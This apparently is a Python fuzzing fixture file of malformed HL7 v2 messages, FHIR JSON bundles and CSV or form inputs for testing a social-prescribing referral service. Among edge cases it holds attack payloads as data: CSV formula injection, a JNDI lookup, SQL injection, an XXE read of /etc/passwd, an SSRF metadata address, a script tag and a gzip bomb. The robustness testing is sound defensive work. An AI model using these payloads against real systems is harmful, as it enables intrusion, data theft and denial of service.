"""Awkward bytes that are no format in particular, or the wrong one for most doors; the letters are those of the project's list of cases."""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

CANARY = "Gwdihwzzcanary"
NHS = "9990000018"
_MSH = b"MSH|^~\\&|WPAS|7A3|SPHUB|SPHUB|20260302090000||REF^I12|C1|P|2.4||||||UNICODE UTF-8\r"
_HL7 = _MSH + b"RF1|P|R|SP^Social prescribing^L|||R1|20260302\rPID|1||9990000018^^^NHS^NH||"
_HL7_SOUND = _HL7 + CANARY.encode() + b"^A||19500101|F\r"


_EVENTS = ("REF^I13", "REF^I14", "REF^I15", "RRI^I12", "MDM^T02", "SIU^S12", "ORU^R01", "ADT^A03", "ACK")


def _deep(opening: str, closing: str, levels: int) -> bytes:
    return (opening * levels + "1" + closing * levels).encode()


def _bundle(entries: int, **more: Any) -> bytes:  # Any: JSON
    request = {"resourceType": "ServiceRequest", "status": "active", "intent": "order", "subject": {"reference": "urn:uuid:nobody"}}
    return json.dumps({"resourceType": "Bundle", "type": "transaction", "entry": [{"resource": request}] * entries, **more}).encode()


# A and B: framing and HL7 v2, at every door.
HL7: dict[str, bytes] = {
    "A2 two frames in one": b"\x0b" + _HL7_SOUND + b"\x1c\r\x0b" + _HL7_SOUND + b"\x1c\r",
    "A3 no CR after FS": b"\x0b" + _HL7_SOUND + b"\x1c",
    "A4 no VT": _HL7_SOUND + b"\x1c\r",
    "A5 cut in the middle": b"\x0b" + _HL7_SOUND[:70],
    "A6 VT inside": b"\x0b" + _HL7_SOUND[:90] + b"\x0b" + _HL7_SOUND + b"\x1c\r",
    "A12 an empty frame": b"\x0b\x1c\r",
    "A15 a batch": b"FHS|^~\\&|A\rBHS|^~\\&|A\r" + _HL7_SOUND + b"BTS|1\rFTS|1\r",
    "A15 a batch that counts wrongly": b"FHS|^~\\&|A\rBHS|^~\\&|A\r" + _HL7_SOUND + b"BTS|9\rFTS|9\r",
    "A15 a batch of nothing": b"FHS|^~\\&|A\rBHS|^~\\&|A\rBTS|0\rFTS|0\r",
    "A15 a thousand messages in a batch": b"BHS|^~\\&|A\r" + _HL7_SOUND * 1_000 + b"BTS|1000\r",
    "B1 Latin-1 under UTF-8": _HL7_SOUND.replace(b"^A|", b"^P\xc9|"),
    "B2 0x92, nothing declared": _HL7_SOUND.replace(b"UNICODE UTF-8", b"").replace(b"^A|", b"^O\x92N|"),
    "B3 Welsh letters": _HL7_SOUND.replace(b"^A|", "^Ŵŷn|".encode()),
    "B5 escapes of every kind": _HL7_SOUND + rb"NTE|1||\F\\S\\T\\R\\E\\X0D\\X00\\.br\\Zx\ \X" + b"\r",
    "B6 other separators": _HL7_SOUND.translate(bytes.maketrans(b"|^~", b"#~^")),
    "B6 doubled separators": _HL7_SOUND.replace(rb"^~\&", rb"^^^^", 1),
    "B6 letters as separators": _HL7_SOUND.replace(b"|", b"a"),
    "B7 LF": _HL7_SOUND.replace(b"\r", b"\n"),
    "B7 CRLF": _HL7_SOUND.replace(b"\r", b"\r\n"),
    "B8 a fifth separator": _HL7_SOUND.replace(rb"^~\&", rb"^~\&#", 1),
    "B9 no control id": _HL7_SOUND.replace(b"|C1|", b"||"),
    "B12 an unknown type": _HL7_SOUND.replace(b"REF^I12", b"ZZZ^Z99"),
    "B12 a type that is a name": _HL7_SOUND.replace(b"REF^I12", CANARY.encode()),
    "B13 an unknown segment": _HL7_SOUND + b"ZZZ|" + CANARY.encode() + b"\r",
    "B14 two NHS numbers": _HL7_SOUND.replace(b"^NHS^NH|", b"^NHS^NH~9990000026^^^NHS^NH|"),
    "B15 nulls": _HL7_SOUND.replace(b"19500101|F", b'""|""'),
    "B16 20,000 segments": _HL7_SOUND + b"NTE|1||x\r" * 20_000,
    "B16 20,000 repetitions": _HL7 + b"~".join([b"A^B"] * 20_000) + b"\r",
    "B16 100,000 carets": _HL7 + b"^" * 100_000 + b"\r",
    "B17 a document of three megabytes": _HL7_SOUND + b"OBX|1|ED|PDF||^application^pdf^Base64^" + b"QUJD" * 750_000 + b"\r",
    "B18 a date that cannot be": _HL7_SOUND.replace(b"19500101", b"19000230"),
    "B18 a date to come": _HL7_SOUND.replace(b"19500101", b"20990101"),
    "B18 a code that ends in a byte order mark": _HL7_SOUND + "DG1|1||42265\u200b\u200d\ufeff^Isolation^SCT\r".encode(),
    "B20 a merge of nobody": _HL7_SOUND.replace(b"REF^I12", b"ADT^A40"),
    **{f"B12 the event {event}": _HL7_SOUND.replace(b"REF^I12", event.encode()) for event in _EVENTS},
}

# C: JSON and HTTP bodies.
JSON: dict[str, bytes] = {
    "C0 nothing": b"",
    "C0 white space": b" \r\n\t ",
    "C0 one NUL": b"\x00",
    "C0 every byte": bytes(range(256)) * 8,
    "C1 100,000 objects deep": b'{"a":' * 100_000,
    "C1 100,000 lists deep": b"[" * 100_000,
    "C1 63 levels": _deep('{"extension":[', "]}", 31),
    "C1 65 levels": _deep('{"a":', "}", 65),
    "C2 a key twice": b'{"status":"active","status":"revoked"}',
    "C2 a key twice that is a name": b'{"%s A":1,"%s A":2}' % (CANARY.encode(), CANARY.encode()),
    "C3 NaN": b'{"a":NaN}',
    "C3 infinity": b'{"a":-Infinity}',
    "C3 1e999": b'{"a":1e999}',
    "C4 5,000 digits": b'{"a":' + b"9" * 5_000 + b"}",
    "C4 an exponent without end": b'{"a":1e' + b"9" * 500 + b"}",
    "C5 a lone surrogate": b'{"a":"\\ud800"}',
    "C5 NUL in a string": b'{"a":"x\\u0000y"}',
    "C5 NUL in a key": b'{"x\\u0000y":1}',
    "C6 a byte order mark": b"\xef\xbb\xbf{}",
    "C6 UTF-16": '{"resourceType":"Bundle"}'.encode("utf-16"),
    "C6 UTF-32": '{"resourceType":"Bundle"}'.encode("utf-32"),
    "C6 UTF-7": b'{"a":"+AGE-"}',
    "C6 Latin-1": b'{"a":"\xe9"}',
    "C6 an overlong form": b'{"a":"\xc0\xaf"}',
    "C7 gzip": gzip.compress(b"{}" * 1_000),
    "C7 a gzip bomb": gzip.compress(b" " * 5_000_000),
    "C8 one byte too many": b'{"a":"' + b"x" * 1_048_576 + b'"}',
    "C8 two megabytes of nothing": b" " * 2_000_000,
    "C12 a form of 100,000 fields": b"&".join(b"a%d=1" % number for number in range(100_000)),
    "C12 a form with a name in it": b"family=" + CANARY.encode() + b"&given=A;B=%00&%ff=%zz&=&&&",
    "C13 a DTD": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "' + CANARY.encode() + b'"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    "C13 an outside entity": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "C13 HTML": b"<html><body>" + CANARY.encode() + b"</body></html>",
    "C14 resourceType a list": b'{"resourceType":["ServiceRequest"]}',
    "C14 resourceType a name": json.dumps({"resourceType": CANARY}).encode(),
    "C14 no resourceType": json.dumps({"name": CANARY, "number": NHS}).encode(),
    "C14 a list of resources": b'[{"resourceType":"ServiceRequest"}]',
    "C14 a string": json.dumps(CANARY).encode(),
    "C14 a number": b"17",
    "C14 true": b"true",
    "C14 null": b"null",
    "C16 a bundle of nothing": _bundle(0),
    "C16 51 entries": _bundle(51),
    "C16 10,000 entries": _bundle(10_000)[:1_000_000],
    "C16 5,000 empty entries": json.dumps({"resourceType": "Bundle", "type": "message", "entry": [{}] * 1_600}).encode(),
    "C16 an entry that is a list": b'{"resourceType":"Bundle","type":"message","entry":[[]]}',
    "C16 entry an object": b'{"resourceType":"Bundle","type":"document","entry":{"resource":{}}}',
    "C16 an entry of itself": b'{"resourceType":"Bundle","type":"document","entry":[{"resource":{"resourceType":"Bundle","entry":[{"resource":null}]}}]}',
    "C16 a bundle of another type": _bundle(1, type="history"),
    "C16 a bundle whose type is a name": _bundle(1, type=CANARY),
    "C16 a bundle for a name": _bundle(1, identifier={"value": CANARY}, id=CANARY + " 1"),
    "C17 contained within contained": json.dumps({"resourceType": "ServiceRequest", "contained": [{"resourceType": "Patient", "contained": [{}]}]}).encode(),
    "C19 an address inside": json.dumps({"resourceType": "ServiceRequest", "subject": {"reference": "http://169.254.169.254/" + CANARY}}).encode(),
    "C20 a script": json.dumps({"resourceType": "ServiceRequest", "text": {"div": f"<script>{CANARY}</script>"}}).encode(),
    "C21 cut off": b'{"resourceType":"Bundle","type":"message","entry":[{"resource":{"resourceType":"Pa',
    "C21 something after the end": b'{"resourceType":"Task"}{}',
    "C21 single quotes": b"{'a':1}",
    "C21 a comment": b"// " + CANARY.encode() + b"\n{}",
    "C21 NDJSON": b'{"a":1}\n{"a":2}\n' + json.dumps({"name": CANARY}).encode() + b"\n\n{",
}

# B19, D, J: business data and what people type; also rows of a file.
WORDS: dict[str, bytes] = {
    "B19 a formula": f"name,need\n=cmd|' /c calc'!A0,{CANARY}\n".encode(),
    "B19 a look-up": b"${jndi:ldap://a.example/" + CANARY.encode() + b"}",
    "B19 SQL": b"'; DROP TABLE referral; --",
    "D0 a header alone": b"family,given,nhs_number\n",
    "D0 a header twice": b"family,family\nA,B\n",
    "D0 a header of other names": f"{CANARY},b\n1,2\n".encode(),
    "D0 rows of other lengths": f"family,given\n{CANARY}\n{CANARY},A,B,C\n,,\n".encode(),
    "D0 a quote that never ends": f'family,given\n"{CANARY},A\n'.encode(),
    "D0 line ends in a cell": f'family,given\n"{CANARY}\r\nx",A\n'.encode(),
    "D0 semicolons": f"family;given\n{CANARY};A\n".encode(),
    "D0 tabs": f"family\tgiven\n{CANARY}\tA\n".encode(),
    "D0 NUL in a cell": b"family,given\n\x00,A\n",
    "D0 Windows-1252": b"family,given\nO\x92N,\xd4\n",
    "D0 UTF-16 with commas": "family,given\nA,B\n".encode("utf-16"),
    "D0 a cell of a megabyte": b"family,given\n" + b"x" * 1_000_000 + b",A\n",
    "D0 100,000 columns": b"," * 100_000 + b"\n" + b"," * 100_000,
    "D0 50,000 rows": b"family\n" + b"A\n" * 50_000,
    "D0 a workbook": b"PK\x03\x04" + base64.b64decode("AAAA") * 100,
    "D0 an empty first line": b"\n\nfamily,given\nA,B\n",
    "D3 a number in other digits": "nhs_number\n９９９００００１８\n".encode(),
    "J6 10,000 letters": b"words=" + b"x" * 10_000,
    "J6 emoji, right to left, zero width": "words=🙂\u202e\u200b\u200d\ufeff\u2028".encode(),
    "J6 percent signs": b"words=%&given=%2&family=%E0%A4%A&x=%u0041",
    "J9 a PDF": b"%PDF-1.7\n" + bytes(range(256)),
    "J9 a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "J9 a zip": b"PK\x05\x06" + bytes(18),
    "J9 a multipart form": b'--x\r\nContent-Disposition: form-data; name="family"\r\n\r\n' + CANARY.encode() + b"\r\n--x--\r\n",
}

ALL = HL7 | JSON | WORDS
